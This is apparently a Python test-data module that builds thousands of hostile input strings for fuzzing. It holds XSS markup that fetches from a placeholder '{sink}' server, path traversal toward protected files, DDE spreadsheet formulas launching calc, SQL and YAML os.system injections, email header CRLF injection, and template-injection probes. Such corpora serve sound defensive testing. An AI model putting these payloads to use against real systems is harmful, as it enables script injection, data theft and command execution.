# ruff: noqa: E501 - a list of oddities reads better in long lines
"""Over five thousand texts that have hurt programs: markup, references, formulas, odd letters.

They are made by a few rules, always the same ones. `{sink}` stands for a server that
counts who asks it, `{file}` for a file that nobody may read.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

TARGETS = (
    "{sink}/a",
    "{sink_without_scheme}/b",
    "file://{file}",
    "FILE://{file}",
    "file:{file}",
    "{file}",
    "../../../../../../../..{file}",
    "data:text/html,<script>fetch('{sink}/c')</script>",
    "javascript:fetch('{sink}/d')",
    "jar:{sink}!/e",
    "bundled:///../../../..{file}",
    "bundled:///preview.css",
    "ftp://127.0.0.1/f",
    "http://127.0.0.1:9/g",
)
REFERRING = (
    '<img src="{}">',
    "<img src={}>",
    '<img srcset="{} 2x">',
    '<svg><image href="{}"/></svg>',
    '<svg><use xlink:href="{}#x"/></svg>',
    '<link rel="stylesheet" href="{}">',
    '<link rel=attachment href="{}">',
    '<script src="{}"></script>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<a href="{}">here</a>',
    '<a rel=attachment href="{}">here</a>',
    '<video poster="{}"></video>',
    '<audio src="{}" autoplay></audio>',
    '<input type=image src="{}">',
    '<form action="{}"><button autofocus></form>',
    '<base href="{}/">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<body background="{}">',
    '<div style="background:url({})">x</div>',
    "<style>@import '{}';</style>",
    "<style>p{{content:url({})}}</style>",
    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
    '"><img src="{}">',
    "'><img src='{}'>",
    "</p></section></body><img src='{}'>",
    "--><img src='{}'><!--",
    "]]><img src='{}'>",
    "</title><img src='{}'>",
    "</textarea><img src='{}'>",
    "</style><img src='{}'>",
    "&lt;img src='{}'&gt;",
    "&#60;img src='{}'&#62;",
    "\\u003cimg src='{}'\\u003e",
    "%3Cimg src='{}'%3E",
    "＜img src='{}'＞",
    "![x]({})",
    "[x]({})",
    "url({})",
    "@import url({});",
    "<!ENTITY x SYSTEM '{}'>",
    "<?xml-stylesheet href='{}'?>",
    "<xi:include href='{}'/>",
)
HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "ontoggle",
)
ELEMENTS = (
    "svg",
    "img src=x",
    "body",
    "details open",
    "input autofocus",
    "marquee",
    "video",
    "math",
)
FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("{sink}/h","x")',
    'IMPORTXML("{sink}/i","//a")',
    'WEBSERVICE("{sink}/j")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd","/C calc","x")',
    "1+1",
    "A1",
)
LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "'=",
    '"=',
    ";=",
    ",=",
    "=+",
    "|",
    "%=",
)
HEADERS = (
    "Bcc: eve@example.net",
    "To: eve@example.net",
    "Subject: won",
    "Reply-To: eve@example.net",
    "Content-Type: text/html",
    "X-Eve: here",
    "Location: {sink}/k",
    "Set-Cookie: eve=1",
)
BREAKS = (
    "\r\n", "\n", "\r", "\n\r", "\r\n ", "\n\t", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c",
    "\x1d", "\x1e", "%0d%0a", "%0A", "\\r\\n", "=0D=0A", "\r\n\r\n", "\u560d\u560a",
)  # fmt: skip
ADDRESSES = (
    "robin@example.org, eve@example.net",
    "robin@example.org;eve@example.net",
    "robin@example.org eve@example.net",
    "robin@example.org\neve@example.net",
    "<robin@example.org>,<eve@example.net>",
    '"robin@example.org, eve"@example.net',
    '"Robin" <robin@example.org>, eve@example.net',
    "robin@example.org%0aeve@example.net",
    "robin@example.org\x00eve@example.net",
    "group: robin@example.org, eve@example.net;",
    "@example.net:robin@example.org",
    "robin@[127.0.0.1]",
    "robin@example.org>\r\nRCPT TO:<eve@example.net",
    "=?utf-8?q?eve=40example=2Enet=2C?= robin@example.org",
)
TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{%print 1%}", "{#x#}", "${7*7}", "#{7*7}",
    "<%=7*7%>", "%(leader)s", "%(x)s", "%s%s%s%n", "%", "%%", "{0}", "{0.__class__}", "{leader}",
    "$leader", "\\", "\\N{DIGIT ONE}", "|safe", "{{ leader }}", "%(name)d", "{leader!r:>9999999}",
)  # fmt: skip
QUOTING = (
    "'; DROP TABLE ballot; --", "' OR 1=1 --", '" OR ""="', "\\'; --", "1; SELECT pg_sleep(9)",
    "!!python/object/apply:os.system ['true']", "&a [*a]", "*a", "- - -", "? : ?", "| >", "!!binary x",
    "null", "~", "true", "NaN", "1e999", "0x10", "2026-11-22", "---\n...", "%YAML 9", "<<: *a", "`x`",
    '{"a":1}', "[]", '"', "'", '""', "a,b", "a;b", 'a,"b', "\ufeffx", "$(true)", "`true`", "; true",
    "| true", "&& true", "../../etc/passwd", "..\\..\\x", "con", "nul.txt", "~root", "-rf", "--help",
)  # fmt: skip
BIDI = ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u200e", "\u200f", "\u061c")  # fmt: skip
MARKS = ("\u0301", "\u0489", "\u20dd", "\u0e47", "\u0610", "\u1ab0", "\u20e4", "\ufe0f", "\u3099")
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u3164",
             "\ufff9", "\ufffc", "\ufffd", "\U000e0001", "\U000e0041")  # fmt: skip
SCRIPTS = (
    "مرحبا بالعالم", "שלום עולם", "नमस्ते दुनिया", "สวัสดีชาวโลก", "你好，世界", "こんにちは", "안녕하세요",
    "Ελληνικά", "Кириллица", "ქართული", "አማርኛ", "తెలుగు", "မြန်မာ", "ᠮᠣᠩᠭᠣᠯ", "ߒߞߏ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇪🇫🇷", "👍🏽", "ﷺ", "ﬀﬁ", "İıŞş", "ẞß", "Å Å Å", "q̣̇ q̣̇", "\u1100\u1161\u11a8",
)  # fmt: skip
WORDS = ("kind", "frank words", "a b", "Ä")


def corpus(sink: str, file: str) -> list[str]:
    """Return the texts, each once, with their references pointing to a server and a file."""
    gaps = {
        "{sink}": sink,
        "{sink_without_scheme}": sink.partition(":")[2],
        "{file}": file,
    }
    found = []
    for text in _texts():
        for gap, value in gaps.items():
            text = text.replace(gap, value)
        found.append(text)
    return list(dict.fromkeys(found))


def _texts() -> Iterator[str]:
    yield from _references()
    yield from _handlers()
    yield from _formulas_and_headers()
    yield from ADDRESSES
    yield from _languages_of_programs()
    yield from _odd_letters()
    yield from _long_ones()


def _references() -> Iterator[str]:
    for markup, target in itertools.product(REFERRING, TARGETS):
        text = markup.replace("{}", target).replace("{{", "{").replace("}}", "}")
        yield text
        yield f"Some words {text} and more"
        yield text.upper()


def _handlers() -> Iterator[str]:
    around = (("", ""), ('">', ""), ("'>", "<!--"), ("</script>", ""), ("\x00", ""))
    for element, handler, (before, after) in itertools.product(ELEMENTS, HANDLERS, around):
        yield f"{before}<{element} {handler}=fetch('{{sink}}/l')>{after}"
        yield f"{before}<{element}/{handler}=\"fetch('{{sink}}/m')\">{after}"


def _formulas_and_headers() -> Iterator[str]:
    for lead, formula in itertools.product(LEADS, FORMULAS):
        yield lead + formula
        yield f"words {lead}{formula}"
    for line_break, header in itertools.product(BREAKS, HEADERS):
        yield f"Robin{line_break}{header}"
        yield f"{line_break}{header}"
        yield f"Robin{line_break}{header}{line_break}{line_break}<b>Dear all</b>"


def _languages_of_programs() -> Iterator[str]:
    for text, word in itertools.product((*TEMPLATES, *QUOTING), WORDS):
        yield text
        yield f"{word} {text}"
        yield f"{text} {word}"
        yield f"{word}{text}{word}"


def _odd_letters() -> Iterator[str]:
    controls = [chr(code) for code in (*range(32), *range(127, 160))]
    for control, word in itertools.product((*controls, *BIDI, *INVISIBLE), WORDS):
        yield control
        yield word + control
        yield control + word
        yield f"{word}{control}{word}"
    for bidi, script in itertools.product(BIDI, SCRIPTS):
        yield f"{bidi}{script} abc 123"
    for code in (0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0x100000, 0x378):
        yield chr(code)
        yield f"a{chr(code)}b"


def _long_ones() -> Iterator[str]:
    for mark, count in itertools.product(MARKS, (1, 5, 50, 500, 4000)):
        yield f"a{mark * count}b"
        yield mark * count
        yield f"e{mark * count} " * 3
    for script, count in itertools.product(SCRIPTS, (1, 2, 10)):
        yield " ".join([script] * count)
        yield script * count
    for letter, length in itertools.product("wWéم字🙂\u00a0_-.", (100, 600, 1000, 1001, 5000)):
        yield letter * length
    for length in range(1, 120):
        yield "Lautstärke" * length
